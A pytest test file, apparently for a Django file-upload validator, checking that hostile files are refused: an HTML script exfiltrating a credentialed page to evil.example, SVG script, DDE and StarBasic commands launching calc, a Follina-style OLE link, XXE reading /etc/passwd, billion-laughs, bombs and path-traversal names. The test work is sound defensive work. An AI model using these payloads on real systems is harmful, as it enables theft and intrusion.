"""The bad-file corpus: what must never enter a shared folder, and the good files that must.

Every bad file is refused with a message its uploader can read (``Refused.message``) and a short
reason for the audit (``Refused.detail``). The files are built here, byte by byte where needed.
"""

import io
import struct
import zipfile
import zlib

import pytest
from django.utils import translation
from pypdf import PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject

from okence.exchange import checks, pdf_checks, services
from okence.exchange.checks import Refused
from okence.exchange.models import FileEvent, SharedFile
from okence.exchange.tests.conftest import (
    SHEET_MAIN,
    WORD_MAIN,
    add,
    docx_bytes,
    image_bytes,
    odf_bytes,
    pdf_bytes,
    png_of_about,
    stored_files,
    xlsx_bytes,
    zip_bytes,
)

NOT_ACCEPTED = (
    "This type of file is not accepted. Please send PDF (recommended), JPEG, PNG or an office "
    "document."
)
NAME_CHARACTERS = "The file name contains characters that are not allowed."
MACROS = "Documents with macros are not accepted."


def mismatch(extension: str) -> str:
    return f"The content of the file does not match its name (.{extension})."


def damaged(kind: str) -> str:
    return f"The file could not be read as {kind}; it may be damaged."


HTML = (
    b"<!DOCTYPE html>\n<html><head><title>Vloga</title></head>"
    b"<body><script>fetch('/uradnik/', {credentials: 'include'})"
    b".then(r => r.text()).then(t => new Image().src = 'https://evil.example/?' + t)"
    b"</script></body></html>\n"
)
SVG = (
    b'<?xml version="1.0" encoding="UTF-8"?>\n'
    b'<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
    b"<script>alert(document.domain)</script><rect width='10' height='10'/></svg>\n"
)
# A Windows executable's start: the DOS header (MZ), its stub pointer, then the PE signature.
EXE = (
    b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00\xb8"
    + bytes(43)
    + b"\x80\x00\x00\x00"
    + bytes(64)
    + b"PE\x00\x00\x4c\x01\x03\x00"
    + bytes(240)
)
PNG_SIGNATURE = b"\x89PNG\r\n\x1a\n"


def png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_header(width: int = 16, height: int = 16) -> bytes:
    return PNG_SIGNATURE + png_chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))


@pytest.fixture(autouse=True)
def _english(_default_language):
    """The messages as written in the code (the Slovenian ones are their translations)."""
    with translation.override("en"):
        yield


def verify(tmp_path, data: bytes, name: str) -> str:
    """What the upload does with a received file: clean its name, check the content."""
    clean = checks.clean_name(name)
    path = tmp_path / "received"
    path.write_bytes(data)
    return checks.verify(str(path), clean)


def refusal(tmp_path, data: bytes, name: str) -> Refused:
    with pytest.raises(Refused) as refused:
        verify(tmp_path, data, name)
    return refused.value


# --- accepted ----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("make", "name", "content_type"),
    [
        (pdf_bytes, "vloga.pdf", "application/pdf"),
        (lambda: pdf_bytes(pages=3), "Priloga 2 – izpis.PDF", "application/pdf"),
        (lambda: image_bytes("JPEG"), "osebna.jpg", "image/jpeg"),
        (lambda: image_bytes("JPEG"), "osebna.jpeg", "image/jpeg"),
        (lambda: image_bytes("PNG"), "posnetek.png", "image/png"),
        (
            docx_bytes,
            "pooblastilo.docx",
            "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
        ),
        (
            xlsx_bytes,
            "izračun.xlsx",
            "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
        ),
        (odf_bytes, "prošnja.odt", "application/vnd.oasis.opendocument.text"),
        (
            lambda: odf_bytes("application/vnd.oasis.opendocument.spreadsheet"),
            "tabela.ods",
            "application/vnd.oasis.opendocument.spreadsheet",
        ),
    ],
)
def test_good_files_are_accepted_with_the_type_they_are_served_as(
    tmp_path, make, name, content_type
):
    assert verify(tmp_path, make(), name) == content_type


# --- refused by type or content ----------------------------------------------------------------


def test_an_executable_named_pdf_is_refused(tmp_path):
    refused = refusal(tmp_path, EXE, "vloga.pdf")
    assert str(refused.message) == mismatch("pdf")
    assert refused.detail.startswith("content is application/")
    assert "pdf" not in refused.detail


def test_html_with_a_script_is_refused_as_pdf_and_as_html(tmp_path):
    as_pdf = refusal(tmp_path, HTML, "vloga.pdf")
    assert str(as_pdf.message) == mismatch("pdf")
    assert as_pdf.detail == "content is text/html"

    for name in ("vloga.html", "vloga.htm", "vloga.HTML"):
        as_html = refusal(tmp_path, HTML, name)
        assert str(as_html.message) == NOT_ACCEPTED
        assert as_html.detail == "type not allowed"


def test_svg_with_a_script_is_refused_as_svg_and_as_png(tmp_path):
    as_svg = refusal(tmp_path, SVG, "podpis.svg")
    assert str(as_svg.message) == NOT_ACCEPTED

    as_png = refusal(tmp_path, SVG, "podpis.png")
    assert str(as_png.message) == mismatch("png")
    assert as_png.detail == "content is image/svg+xml"


def test_a_png_signature_followed_by_html_is_refused(tmp_path):
    # Only the signature: libmagic does not even call it PNG.
    bare = refusal(tmp_path, PNG_SIGNATURE + HTML, "slika.png")
    assert str(bare.message) == mismatch("png")

    # With a real IHDR chunk libmagic says image/png; Pillow must then fail to load it.
    polyglot = png_header() + HTML
    refused = refusal(tmp_path, polyglot, "slika.png")
    assert str(refused.message) == damaged("PNG")
    assert refused.detail == "PNG does not parse"


def test_a_png_with_html_in_a_text_chunk_and_no_image_data_is_refused(tmp_path):
    """Header, a tEXt chunk carrying HTML, IEND: no pixels at all. Pillow's verify() used to
    fail here with an IndexError that escaped the check (a 500 instead of a refusal)."""
    polyglot = png_header() + png_chunk(b"tEXt", b"Comment\x00" + HTML) + png_chunk(b"IEND", b"")
    refused = refusal(tmp_path, polyglot, "slika.png")
    assert str(refused.message) == damaged("PNG")


def test_a_decompression_bomb_is_refused(tmp_path):
    """30000 × 30000 pixels declared in a file of a few hundred bytes: Pillow refuses to open
    it (DecompressionBombError), which must become a refusal, not a crash."""
    bomb = (
        png_header(30_000, 30_000)
        + png_chunk(b"IDAT", zlib.compress(bytes(1000)))
        + png_chunk(b"IEND", b"")
    )
    refused = refusal(tmp_path, bomb, "slika.png")
    assert str(refused.message) == damaged("PNG")


def test_a_pdf_header_on_a_zip_or_html_body_is_refused(tmp_path):
    for body in (docx_bytes(), HTML):
        refused = refusal(tmp_path, b"%PDF-1.7\n" + body, "vloga.pdf")
        assert str(refused.message) == damaged("PDF")
        assert refused.detail == "PDF does not parse"


def test_a_pdf_that_nests_too_deep_for_the_parser_is_refused(tmp_path):
    """pypdf recurses into nested arrays: a RecursionError must become a refusal too."""
    deep = (
        b"%PDF-1.4\n1 0 obj\n<</Type/Catalog/Pages 2 0 R>>\nendobj\n2 0 obj\n"
        + b"[" * 5000
        + b"]" * 5000
        + b"\nendobj\ntrailer\n<</Root 1 0 R>>\nstartxref\n0\n%%EOF\n"
    )
    refused = refusal(tmp_path, deep, "vloga.pdf")
    assert str(refused.message) == damaged("PDF")


@pytest.mark.parametrize("keep", [0.5, 0.9])
def test_a_truncated_pdf_is_refused(tmp_path, keep):
    whole = pdf_bytes(pages=2)
    refused = refusal(tmp_path, whole[: int(len(whole) * keep)], "vloga.pdf")
    assert str(refused.message) == damaged("PDF")


def test_a_truncated_jpeg_is_refused(tmp_path):
    whole = image_bytes("JPEG", (200, 200), noise=True)
    refused = refusal(tmp_path, whole[: len(whole) // 2], "osebna.jpg")
    assert str(refused.message) == damaged("JPEG")


def test_an_image_of_another_kind_than_its_name_is_refused(tmp_path):
    refused = refusal(tmp_path, image_bytes("PNG"), "osebna.jpg")
    assert str(refused.message) == mismatch("jpg")


def test_a_docx_with_macros_is_refused(tmp_path):
    with_macros = docx_bytes(extra=[("word/vbaProject.bin", b"\xd0\xcf\x11\xe0" + bytes(512))])
    refused = refusal(tmp_path, with_macros, "pooblastilo.docx")
    assert str(refused.message) == MACROS
    assert refused.detail == "macros in word/vbaProject.bin"


def test_office_files_that_are_not_what_they_say_are_refused(tmp_path):
    # A plain ZIP named .docx, and an ODF text named .ods.
    plain_zip = zip_bytes([("readme.txt", "not a document")])
    assert str(refusal(tmp_path, plain_zip, "pooblastilo.docx").message) == damaged("DOCX")
    assert str(refusal(tmp_path, odf_bytes(), "tabela.ods").message) == mismatch("ods")


@pytest.mark.parametrize("damage", ["encrypted", "unknown method", "corrupt data"])
def test_office_zips_the_reader_cannot_open_are_refused(tmp_path, damage):
    """zipfile raises RuntimeError, NotImplementedError or zlib.error for these: each must
    become a refusal, not an error page."""
    data = bytearray(docx_bytes())
    if damage == "encrypted":  # general-purpose flag bit 0 in every local and central header
        for signature, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
            position = 0
            while (position := data.find(signature, position)) != -1:
                data[position + offset] |= 1
                position += 4
    elif damage == "unknown method":  # 98 (PPMd) is a method zipfile cannot read
        for signature, offset in ((b"PK\x03\x04", 8), (b"PK\x01\x02", 10)):
            position = 0
            while (position := data.find(signature, position)) != -1:
                struct.pack_into("<H", data, position + offset, 98)
                position += 4
    else:  # flip bytes inside the deflated document part
        start = data.find(b"word/document.xml") + len("word/document.xml") + 2
        for index in range(start, start + 12):
            data[index] ^= 0x55
    refused = refusal(tmp_path, bytes(data), "pooblastilo.docx")
    assert str(refused.message) == damaged("DOCX")


# --- names -------------------------------------------------------------------------------------


@pytest.mark.parametrize("name", ["vloga.pdf.exe", "slika.jpg.html", "vloga.pdf.js", "a.pdf.scr"])
def test_double_extensions_count_by_the_last_one(tmp_path, name):
    refused = refusal(tmp_path, pdf_bytes(), name)
    assert str(refused.message) == NOT_ACCEPTED


@pytest.mark.parametrize(
    ("name", "clean"),
    [
        ("../../etc/passwd.pdf", "passwd.pdf"),
        ("/etc/passwd.pdf", "passwd.pdf"),
        ("..\\..\\Windows\\vloga.pdf", "vloga.pdf"),
        ("C:\\Users\\Rajko\\Desktop\\vloga.pdf", "vloga.pdf"),
        ("  vloga   za\u00a0potni  list.pdf ", "vloga za potni list.pdf"),
        ("vloga.pdf...", "vloga.pdf"),
        ("a" * 300 + ".pdf", "a" * 146 + ".pdf"),
    ],
)
def test_names_lose_their_folders_and_excess(name, clean):
    assert checks.clean_name(name) == clean


@pytest.mark.parametrize(
    "name", ["a\x00.pdf", "vloga.pdf\x00.exe", "vloga\r\n.pdf", "\x1b[31m.pdf"]
)
def test_control_characters_in_a_name_are_refused(name):
    with pytest.raises(Refused) as refused:
        checks.clean_name(name)
    assert str(refused.value.message) == NAME_CHARACTERS


@pytest.mark.parametrize("name", ["", "..", "../", "pdf", "   "])
def test_a_name_without_an_extension_is_refused(name):
    with pytest.raises(Refused) as refused:
        checks.clean_name(name)
    assert refused.value.detail == "no name"


def test_a_path_traversal_name_is_stored_under_a_random_name(folder, exchange_storage):
    file = add(folder, pdf_bytes(), "../../etc/passwd.pdf")
    assert file.name == "passwd.pdf"
    prefix, random_part = file.stored_name.split("/")
    assert prefix == folder.appointment.public_id.hex
    assert len(random_part) == 32 and int(random_part, 16) >= 0
    assert "passwd" not in file.stored_name and ".." not in file.stored_name
    assert stored_files(exchange_storage) == [file.stored_name]


def test_a_null_byte_in_the_name_is_refused_and_audited(folder, exchange_storage):
    with pytest.raises(Refused) as refused:
        add(folder, pdf_bytes(), "a\x00.pdf")
    assert str(refused.value.message) == NAME_CHARACTERS
    event = FileEvent.objects.get(action=FileEvent.Action.REFUSED)
    assert event.detail == "control character in name"
    # Recorded without the NUL, which PostgreSQL cannot store (the audit used to fail there).
    assert event.file_name == "a\ufffd.pdf"
    assert not SharedFile.objects.exists()
    assert stored_files(exchange_storage) == []


# --- size --------------------------------------------------------------------------------------


def test_an_oversized_file_is_refused_before_and_after_it_arrives(
    folder, settings, exchange_storage
):
    settings.EXCHANGE_MAX_FILE_BYTES = 2**20
    # The declared size alone is enough to refuse (the upload does this before reading).
    with pytest.raises(Refused) as declared:
        services.check_room_for(folder, 2**20 + 1)
    assert str(declared.value.message) == "The file is larger than 1 MB."
    assert declared.value.detail == "file too large"
    services.check_room_for(folder, 2**20)  # exactly the limit fits

    # A real file over the limit, through add_file: refused, audited, nothing stored.
    big = png_of_about(2**20 + 100_000)
    assert len(big) > 2**20
    with pytest.raises(Refused) as received:
        add(folder, big, "posnetek.png")
    assert str(received.value.message) == "The file is larger than 1 MB."
    assert FileEvent.objects.get(action=FileEvent.Action.REFUSED).detail == "file too large"
    assert stored_files(exchange_storage) == []


def test_types_can_be_narrowed_by_settings(tmp_path, settings):
    settings.EXCHANGE_ALLOWED_TYPES = ["pdf"]
    assert checks.allowed_extensions() == ["pdf"]
    assert str(refusal(tmp_path, image_bytes("PNG"), "posnetek.png").message) == NOT_ACCEPTED
    # An unknown type in the setting does not open the door to it.
    settings.EXCHANGE_ALLOWED_TYPES = ["pdf", "html"]
    assert checks.allowed_extensions() == ["pdf"]
    assert str(refusal(tmp_path, HTML, "vloga.html").message) == NOT_ACCEPTED


def test_a_name_with_an_invisible_direction_change_is_refused():
    from okence.exchange.checks import Refused, clean_name

    with pytest.raises(Refused):
        clean_name("racun\u202efdp.docx")


def test_an_image_with_more_pixels_than_allowed_is_refused_before_decoding(tmp_path, settings):
    """A few hundred bytes can declare 64 megapixels, which Pillow would decode into ~190 MB."""
    settings.EXCHANGE_MAX_IMAGE_PIXELS = 50_000_000
    large = (
        png_header(8_000, 8_000)
        + png_chunk(b"IDAT", zlib.compress(bytes(1000)))
        + png_chunk(b"IEND", b"")
    )
    refused = refusal(tmp_path, large, "slika.png")
    assert refused.detail == "too many pixels"


# --- active content and bombs in office documents ---------------------------------------------

EMBEDDED = (
    "Documents with embedded objects or controls (OLE, ActiveX) are not accepted; please remove "
    "them or send the document as PDF."
)
TOO_COMPLEX = (
    "The file is too large or too complex to be checked safely; please send it in smaller parts."
)
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)  # a compound file, as vbaProject.bin is
VBA_TYPE = "application/vnd.ms-office.vbaProject"
MS_RELATIONSHIPS = "http://schemas.microsoft.com/office/2006/relationships/"
OFFICE_RELATIONSHIPS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
PACKAGE = "http://schemas.openxmlformats.org/package/2006/"
WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"


def ooxml_bytes(
    part: str,
    main_type: str,
    body: str,
    *,
    types: list[tuple[str, str]] = (),
    relationships: list[tuple[str, str]] = (),
    extra: list[tuple[str, bytes | str]] = (),
) -> bytes:
    """An OOXML package: its main part, ``types`` as (part, content type) overrides, and
    ``relationships`` of the main part as (type, target)."""
    overrides = "".join(
        f'<Override PartName="/{name}" ContentType="{kind}"/>'
        for name, kind in [(part, main_type), *types]
    )
    folder, main = part.rsplit("/", 1)
    links = "".join(
        f'<Relationship Id="rId{number}" Type="{kind}" Target="{target}"/>'
        for number, (kind, target) in enumerate(relationships, start=2)
    )
    return zip_bytes(
        [
            (
                "[Content_Types].xml",
                f'<?xml version="1.0" encoding="UTF-8"?><Types xmlns="{PACKAGE}content-types">'
                '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
                'relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>'
                f'<Default Extension="png" ContentType="image/png"/>{overrides}</Types>',
            ),
            (
                "_rels/.rels",
                f'<Relationships xmlns="{PACKAGE}relationships"><Relationship Id="rId1" '
                f'Type="{OFFICE_RELATIONSHIPS}officeDocument" Target="{part}"/></Relationships>',
            ),
            (part, body),
            (
                f"{folder}/_rels/{main}.rels",
                f'<Relationships xmlns="{PACKAGE}relationships">{links}</Relationships>',
            ),
            *extra,
        ]
    )


def word(**kwargs) -> bytes:
    body = f'<w:document xmlns:w="{WORD}"><w:body><w:p/></w:body></w:document>'
    return ooxml_bytes("word/document.xml", WORD_MAIN, body, **kwargs)


def workbook(**kwargs) -> bytes:
    body = (
        '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        '<sheets><sheet name="List1" sheetId="1"/></sheets></workbook>'
    )
    return ooxml_bytes("xl/workbook.xml", SHEET_MAIN, body, **kwargs)


ODF_OFFICE = "urn:oasis:names:tc:opendocument:xmlns:office:1.0"
ODF_NAMESPACES = (
    f'xmlns:office="{ODF_OFFICE}" xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0" '
    'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" '
    'xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" '
    'xmlns:xlink="http://www.w3.org/1999/xlink"'
)
ODT = "application/vnd.oasis.opendocument.text"
RUN_ON_OPEN = (
    '<script:event-listener script:language="ooo:script" script:event-name="office:load" '
    'xlink:href="vnd.sun.star.script:Standard.Module1.Main?language=Basic&amp;'
    'location=document"/>'
)


def odf(
    mimetype: str = ODT,
    *,
    scripts: str = "",
    body: str = "<text:p>Vloga</text:p>",
    manifest: list[tuple[str, str]] = (),
    extra: list[tuple[str, bytes | str]] = (),
    encoding: str = "",
) -> bytes:
    """An ODF package; ``scripts`` goes in office:event-listeners, ``manifest`` adds entries,
    ``encoding`` is declared in content.xml and used to write it."""
    listeners = f"<office:event-listeners>{scripts}</office:event-listeners>" if scripts else ""
    content = (
        (f'<?xml version="1.0" encoding="{encoding}"?>' if encoding else "")
        + f"<office:document-content {ODF_NAMESPACES}><office:scripts>{listeners}"
        f"</office:scripts><office:body><office:text>{body}</office:text></office:body>"
        "</office:document-content>"
    )
    entries = "".join(
        f'<manifest:file-entry manifest:full-path="{path}" manifest:media-type="{kind}"/>'
        for path, kind in [("/", mimetype), *manifest]
    )
    return zip_bytes(
        [
            ("mimetype", mimetype),
            (
                "META-INF/manifest.xml",
                '<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:'
                f'manifest:1.0">{entries}</manifest:manifest>',
            ),
            ("content.xml", content.encode(encoding) if encoding else content),
            *extra,
        ]
    )


def test_the_odt_with_a_starbasic_module_run_on_opening_is_refused(tmp_path):
    """The sample of the issue: a Basic library, listed in the manifest, bound to office:load."""
    module = (
        '<!DOCTYPE script:module PUBLIC "-//OpenOffice.org//DTD OfficeDocument 1.0//EN" '
        '"module.dtd"><script:module xmlns:script="http://openoffice.org/2000/script" '
        'script:name="Module1" script:language="StarBasic">Sub Main\nShell("calc")\nEnd Sub'
        "</script:module>"
    )
    data = odf(
        scripts=RUN_ON_OPEN,
        manifest=[("Basic/Standard/Module1.xml", "text/xml"), ("Basic/script-lc.xml", "text/xml")],
        extra=[("Basic/Standard/Module1.xml", module), ("Basic/script-lc.xml", "<x/>")],
    )
    refused = refusal(tmp_path, data, "prošnja.odt")
    assert str(refused.message) == MACROS
    assert refused.detail == "macros in Basic/Standard/Module1.xml"


def odf_with_link_at(offset: int) -> bytes:
    """An ODT whose content.xml has a macro link starting at ``offset``."""
    link = '<text:a xlink:href="vnd.sun.star.script:x"/>'
    content = odf(body=f"<text:p>{{}}</text:p>{link}")
    # The content part as odf() writes it, to measure where the link starts.
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        written = archive.read("content.xml")
    start = written.index(b"vnd.sun") - len("{}")
    return odf(body=f"<text:p>{'x' * (offset - start)}</text:p>{link}")


@pytest.mark.parametrize(
    ("data", "detail"),
    [
        # A macro shipped with LibreOffice run on opening: no Basic/ folder at all.
        (
            lambda: odf(scripts=RUN_ON_OPEN.replace("location=document", "location=share")),
            "script element event-listener",
        ),
        # A link that runs a macro when followed.
        (
            lambda: odf(
                body='<text:p><text:a xlink:href=" VND.SUN.STAR.SCRIPT:x.y?language=Python">'
                "klik</text:a></text:p>"
            ),
            "script link vnd.sun.star.script:x.y?language=python",
        ),
        (
            lambda: odf(body='<text:p><text:execute-macro text:name="Main"/></text:p>'),
            "script element execute-macro",
        ),
        # A script listed in the manifest under another folder's case.
        (
            lambda: odf(manifest=[("/scripts/python/run.py", "application/binary")]),
            "script in manifest /scripts/python/run.py",
        ),
        # Spelled so that no search of the bytes finds it: parsed, not searched.
        (
            lambda: odf(body='<text:a xlink:href="&#118;nd.sun.star.script:x?language=Basic"/>'),
            "script link vnd.sun.star.script:x?language=basic",
        ),
        (lambda: odf(scripts=RUN_ON_OPEN, encoding="UTF-16"), "script element event-listener"),
        # The link's scheme across the boundary of two chunks read.
        (
            lambda: odf_with_link_at(64 * 1024 - len("vnd.sun.star.scr")),
            "script link vnd.sun.star.script:x",
        ),
        # The same in a spreadsheet, and in its styles (headers and master pages).
        (
            lambda: odf(
                "application/vnd.oasis.opendocument.spreadsheet",
                extra=[
                    (
                        "styles.xml",
                        f"<office:document-styles {ODF_NAMESPACES}><office:event-listeners>"
                        f"{RUN_ON_OPEN}</office:event-listeners></office:document-styles>",
                    )
                ],
            ),
            "script element event-listener",
        ),
    ],
    ids=[
        "shared macro",
        "macro link",
        "macro field",
        "script manifest",
        "ods styles",
        "character references",
        "utf-16",
        "across chunks",
    ],
)
def test_odf_scripts_by_any_route_are_refused(tmp_path, data, detail):
    content = data()
    name = "tabela.ods" if b"spreadsheet" in content[:100] else "prošnja.odt"
    refused = refusal(tmp_path, content, name)
    assert str(refused.message) == MACROS
    assert refused.detail == detail


def test_an_odt_posing_as_ooxml_too_is_still_checked_as_odf(tmp_path):
    """An OOXML content-types part in an ODT must not turn the ODF checks off."""
    content_types = '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'
    data = odf(scripts=RUN_ON_OPEN, extra=[("[Content_Types].xml", content_types)])
    refused = refusal(tmp_path, data, "prošnja.odt")
    assert str(refused.message) == MACROS
    assert refused.detail == "script element event-listener"


def test_an_odt_with_an_ole_object_is_refused(tmp_path):
    data = odf(body='<draw:frame><draw:object-ole xlink:href="./Object 1"/></draw:frame>')
    refused = refusal(tmp_path, data, "prošnja.odt")
    assert str(refused.message) == EMBEDDED
    assert refused.detail == "object element object-ole"


@pytest.mark.parametrize(
    ("data", "message", "detail"),
    [
        # The VBA project renamed to an image, its type declared for that name.
        (
            lambda: word(
                types=[("word/media/image1.png", VBA_TYPE)],
                relationships=[(f"{MS_RELATIONSHIPS}vbaProject", "media/image1.png")],
                extra=[("word/media/image1.png", OLE)],
            ),
            MACROS,
            "content type application/vnd.ms-office.vbaproject",
        ),
        # Renamed, typed image/png by its extension, found by the relationship alone.
        (
            lambda: word(
                relationships=[(f"{MS_RELATIONSHIPS}vbaProject", "media/image1.png")],
                extra=[("word/media/image1.png", OLE)],
            ),
            MACROS,
            "relationship vbaproject to media/image1.png",
        ),
        # A .docm main part under a .docx name.
        (
            lambda: ooxml_bytes(
                "word/document.xml",
                "application/vnd.ms-word.document.macroEnabled.main+xml",
                f'<w:document xmlns:w="{WORD}"/>',
            ),
            MACROS,
            "content type application/vnd.ms-word.document.macroenabled.main+xml",
        ),
        # A compound file under any name, declared nowhere.
        (lambda: word(extra=[("word/media/image2.png", OLE)]), EMBEDDED, "compound file "),
        (
            lambda: word(
                relationships=[(f"{OFFICE_RELATIONSHIPS}oleObject", "embeddings/oleObject1.bin")],
                extra=[("word/embeddings/oleObject1.bin", b"not ole but named so")],
            ),
            EMBEDDED,
            "relationship oleobject to embeddings/oleObject1.bin",
        ),
        # Follina: an OLE object fetched from a server when the document opens.
        (
            lambda: word(
                relationships=[(f"{OFFICE_RELATIONSHIPS}oleObject", "mhtml:http://x.example/!x")]
            ),
            EMBEDDED,
            "relationship oleobject to mhtml:http://x.example/!x",
        ),
        (
            lambda: word(
                types=[("word/controls/c1.xml", "application/vnd.ms-office.activeX+xml")],
                extra=[("word/controls/c1.xml", "<ax:ocx xmlns:ax='x'/>")],
            ),
            EMBEDDED,
            "content type application/vnd.ms-office.activex+xml",
        ),
    ],
    ids=[
        "renamed vba",
        "vba relationship",
        "docm",
        "ole anywhere",
        "ole object",
        "follina",
        "activex",
    ],
)
def test_docx_macros_and_objects_by_any_route_are_refused(tmp_path, data, message, detail):
    refused = refusal(tmp_path, data(), "pooblastilo.docx")
    assert str(refused.message) == message
    assert refused.detail.startswith(detail)


FETCHES = (
    "Documents that fetch templates or parts from the internet when opened are not accepted; "
    "please save the document without the link, or as PDF."
)


@pytest.mark.parametrize(
    ("kind", "target", "refused"),
    [
        ("attachedTemplate", "https://evil.example/predloga.dotm", True),
        ("attachedTemplate", "\\\\evil.example\\share\\predloga.dotm", True),
        ("frame", "file://evil.example/share/okvir.docx", True),
        ("subDocument", "//evil.example/share/del.docx", True),
        # Documents made from a template on the author's own computer name it like this.
        ("attachedTemplate", "file:///C:/Users/Rajko/Predloge/vloga.dotx", False),
        ("attachedTemplate", "C:\\Users\\Rajko\\Predloge\\vloga.dotx", False),
    ],
)
def test_a_docx_that_fetches_a_template_or_part_from_a_server_is_refused(
    tmp_path, kind, target, refused
):
    relationship = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rId1" Type="{OFFICE_RELATIONSHIPS}{kind}" Target="{target}" '
        'TargetMode="External"/></Relationships>'
    )
    data = word(extra=[("word/_rels/settings.xml.rels", relationship)])
    if refused:
        refusal_ = refusal(tmp_path, data, "pooblastilo.docx")
        assert str(refusal_.message) == FETCHES
        assert refusal_.detail == f"relationship {kind.lower()} to {target}"
    else:
        assert verify(tmp_path, data, "pooblastilo.docx")


def word_with(paragraph: str) -> bytes:
    body = f'<w:document xmlns:w="{WORD}"><w:body><w:p>{paragraph}</w:p></w:body></w:document>'
    return ooxml_bytes("word/document.xml", WORD_MAIN, body)


def field(*codes: str) -> str:
    """A complex field whose code is split over runs, as Word writes it (and attackers split
    it, so that no search finds "DDEAUTO")."""
    runs = "".join(
        code if code.startswith("<") else f"<w:r><w:instrText>{code}</w:instrText></w:r>"
        for code in codes  # a code that is markup is a field nested in this one
    )
    return (
        f'<w:r><w:fldChar w:fldCharType="begin"/></w:r>{runs}'
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>1</w:t></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
    )


@pytest.mark.parametrize(
    ("paragraph", "detail"),
    [
        (field(" DD", 'EAUTO c:\\Windows\\System32\\cmd.exe "/k calc"'), "DDE field DDEAUTO"),
        (field(" QUOTE ", field('DDE cmd "/c calc"')), "DDE field DDE cmd"),
        ("<w:fldSimple w:instr=' &#68;DEAUTO cmd \"/c calc\"'/>", "DDE field DDEAUTO cmd"),
    ],
    ids=["split over runs", "nested", "simple field"],
)
def test_a_docx_with_a_dde_field_is_refused(tmp_path, paragraph, detail):
    refused = refusal(tmp_path, word_with(paragraph), "pooblastilo.docx")
    assert str(refused.message) == MACROS
    assert refused.detail.startswith(detail)


def test_an_xlsx_with_a_dde_link_is_refused(tmp_path):
    link = "xl/externalLinks/externalLink1.xml"
    data = workbook(
        extra=[
            (
                link,
                '<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
                '<ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>',
            )
        ]
    )
    refused = refusal(tmp_path, data, "izračun.xlsx")
    assert str(refused.message) == MACROS
    assert refused.detail == "DDE link to cmd"


def test_a_docx_with_ordinary_fields_is_accepted(tmp_path):
    paragraph = field(" PAGE ") + field(" TOC \\o ") + "<w:fldSimple w:instr=' DATE '/>"
    assert verify(tmp_path, word_with(paragraph), "pooblastilo.docx")


@pytest.mark.parametrize("name", ["xl/macrosheets/sheet1.xml", "xl/worksheets/sheet2.xml"])
def test_an_xlsx_with_an_excel_4_macro_sheet_is_refused(tmp_path, name):
    data = workbook(
        types=[(name, "application/vnd.ms-excel.macrosheet+xml")],
        relationships=[(f"{MS_RELATIONSHIPS}xlMacrosheet", name.removeprefix("xl/"))],
        extra=[(name, '<xm:macrosheet xmlns:xm="x"/>')],
    )
    refused = refusal(tmp_path, data, "izračun.xlsx")
    assert str(refused.message) == MACROS


def test_macros_in_a_document_embedded_in_a_document_are_refused(tmp_path):
    """A chart's data is an XLSX inside the DOCX: it is checked as one."""
    inner = workbook(types=[("xl/macrosheets/m.xml", "application/vnd.ms-excel.macrosheet+xml")])
    data = word(extra=[("word/embeddings/Microsoft_Excel_Worksheet.xlsx", inner)])
    refused = refusal(tmp_path, data, "pooblastilo.docx")
    assert str(refused.message) == MACROS


LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
    + "".join(
        f'<!ENTITY lol{n} "{f"&lol{n - 1};" * 10 if n > 1 else "&lol;" * 10}">'
        for n in range(1, 10)
    )
    + "]>"
)


@pytest.mark.parametrize(
    ("make", "name", "kind"),
    [
        # Billion laughs in the content types, the main document (read only to its root), an
        # ODF content part, and an external entity (XXE) in a workbook.
        (
            lambda: zip_bytes(
                [
                    ("[Content_Types].xml", LAUGHS + "<Types>&lol9;</Types>"),
                    ("word/document.xml", "<w:document/>"),
                ]
            ),
            "pooblastilo.docx",
            "DOCX",
        ),
        (
            lambda: ooxml_bytes(
                "word/document.xml", WORD_MAIN, LAUGHS + "<w:document>&lol9;</w:document>"
            ),
            "pooblastilo.docx",
            "DOCX",
        ),
        (
            lambda: zip_bytes(
                [
                    ("mimetype", ODT),
                    ("content.xml", LAUGHS + "<office:document>&lol9;</office:document>"),
                ]
            ),
            "prošnja.odt",
            "ODT",
        ),
        (
            lambda: ooxml_bytes(
                "xl/workbook.xml",
                SHEET_MAIN,
                '<!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]><workbook>&x;</workbook>',
            ),
            "izračun.xlsx",
            "XLSX",
        ),
    ],
    ids=["content types", "document", "odt content", "xxe"],
)
def test_xml_with_a_dtd_in_an_office_file_is_refused(tmp_path, make, name, kind):
    refused = refusal(tmp_path, make(), name)
    assert str(refused.message) == damaged(kind)
    assert refused.detail.startswith("DTD in ")


def declared_size(data: bytes, member: str, size: int) -> bytes:
    """The archive with the central directory declaring ``size`` unpacked bytes for ``member``
    (what a bomb's header says; nothing is unpacked to build it)."""
    data = bytearray(data)
